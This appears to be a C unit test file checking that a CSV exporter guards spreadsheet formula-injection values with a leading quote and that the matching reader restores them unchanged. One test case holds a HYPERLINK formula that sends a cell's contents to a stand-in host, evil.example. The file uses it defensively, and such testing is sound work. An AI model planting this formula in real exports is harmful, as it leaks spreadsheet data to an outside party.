/* Unit tests of spreadsheet-safe CSV cells: what every export writes for a
 * value that a spreadsheet would take for a formula (export_csv_field), and
 * that the importers' reader gives every value back as it was (csv_read),
 * hostile values included. */
#include "config.h"

#include "../tap.h"
#include "core/csv_read.h"
#include "core/export.h"
#include "core/mem.h"

static const struct {
	const char *value, *cell; /* as stored, as written */
} cases[] = {
	{"=1+2", "\"'=1+2\""},
	{"=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"x\"\")\""},
	{"+33 1 00 00 00 00", "\"'+33 1 00 00 00 00\""},
	{"-5", "\"'-5\""},
	{"-", "\"'-\""},
	{"@SUM(A1:A9)", "\"'@SUM(A1:A9)\""},
	{"\tcmd", "\"'\tcmd\""},
	{"\r\ncmd", "\"'\r\ncmd\""},
	{"'=", "\"''=\""}, /* already guarded as a spreadsheet would: one more, so it reads back */
	{"''-1", "\"'''-1\""},
	{"'@", "\"''@\""},
	{"'", "\"'\""}, /* a quote before anything else stays as it is */
	{"''", "\"''\""},
	{"'abc", "\"'abc\""},
	{"a=b", "\"a=b\""},
	{"5-3", "\"5-3\""},
	{" =1", "\" =1\""},
	{"5", "5"},
	{"100000000002", "100000000002"},
	{"", ""},
};

struct rows {
	const char *f[4];
	char quoted[5]; /* "q" for a quoted field, "-" for another */
	size_t n, rows;
};

static int on_row(void *ctx, const struct csv_row *row)
{
	struct rows *g = ctx;
	g->rows++;
	g->n = row->n;
	for (size_t i = 0; i < row->n && i < 4; i++) {
		g->f[i] = row->f[i];
		g->quoted[i] = row->quoted[i] ? 'q' : '-';
	}
	return 0;
}

/* The fields of a one-row CSV text. */
static struct rows read_row(struct arena *a, const char *text)
{
	struct rows g = {{NULL}, "", 0, 0};
	unsigned long broken;
	char err[200];
	csv_read(a, text, strlen(text), on_row, NULL, &g, &broken, err, sizeof err);
	return g;
}

/* `s` with its tabs and line breaks shown, for a test's name. */
static const char *shown(struct arena *a, const char *s)
{
	struct buf b;
	buf_init(&b, a);
	for (; *s; s++)
		buf_puts(&b, *s == '\t' ? "\\t" : *s == '\r' ? "\\r" : *s == '\n' ? "\\n" : (char[2]){*s, 0});
	return buf_str(&b);
}

int main(void)
{
	struct arena *a = arena_new();
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct buf b;
		buf_init(&b, a);
		export_csv_field(&b, cases[i].value, true);
		char name[200];
		snprintf(name, sizeof name, "\"%s\" is written %s", shown(a, cases[i].value), shown(a, cases[i].cell));
		is_str(buf_str(&b), cases[i].cell, name);
		export_csv_field(&b, "end", false);
		buf_puts(&b, "\r\n");
		struct rows g = read_row(a, buf_str(&b));
		snprintf(name, sizeof name, "\"%s\" reads back unchanged", shown(a, cases[i].value));
		ok(g.rows == 1 && g.n == 2 && strcmp(g.f[0], cases[i].value) == 0 && strcmp(g.f[1], "end") == 0, "%s",
		   name);
	}
	/* What a reader meets in a file: one guard is removed, where a guard is. */
	struct rows g = read_row(a, "'=x,'x,''-1,=y\r\n");
	ok(g.n == 4 && strcmp(g.f[0], "=x") == 0 && strcmp(g.f[1], "'x") == 0 && strcmp(g.f[2], "'-1") == 0 &&
		   strcmp(g.f[3], "=y") == 0,
	   "the reader removes one guard before a formula's first character, and nothing else");
	g = read_row(a, "\"'\t\",\"'\r\",\"'\",\"''\"\r\n");
	ok(g.n == 4 && strcmp(g.f[0], "\t") == 0 && strcmp(g.f[1], "\r") == 0 && strcmp(g.f[2], "'") == 0 &&
		   strcmp(g.f[3], "''") == 0,
	   "a tab or a carriage return after the guard, and a guard alone");
	/* Which fields were quoted, so that the importers know that a comma
	 * beside one divides fields; quotes read as libcsv read them. */
	g = read_row(a, "a,\"b, c\",\"\",\" d\"\r\n");
	ok(g.n == 4 && strcmp(g.f[1], "b, c") == 0 && strcmp(g.f[3], " d") == 0 && strcmp(g.quoted, "-qqq") == 0,
	   "quoted fields are said to be, an empty one too");
	g = read_row(a, "a\"b, \"c\",\"d\"\"e\",\"f\"g\"\n");
	ok(g.n == 4 && strcmp(g.f[0], "a\"b") == 0 && strcmp(g.f[1], " \"c\"") == 0 && strcmp(g.f[2], "d\"e") == 0 &&
		   strcmp(g.f[3], "f\"g") == 0 && strcmp(g.quoted, "--qq") == 0,
	   "a quote inside an unquoted field is kept, \"\" is one quote, a quote before other text is kept");
	ok(csv_needs_guard("=") && csv_needs_guard("'''+") && !csv_needs_guard("'") && !csv_needs_guard("") &&
		   !csv_needs_guard("a-"),
	   "csv_needs_guard: a formula's first character after any number of quotes");
	arena_free(a);
	return done_testing();
}
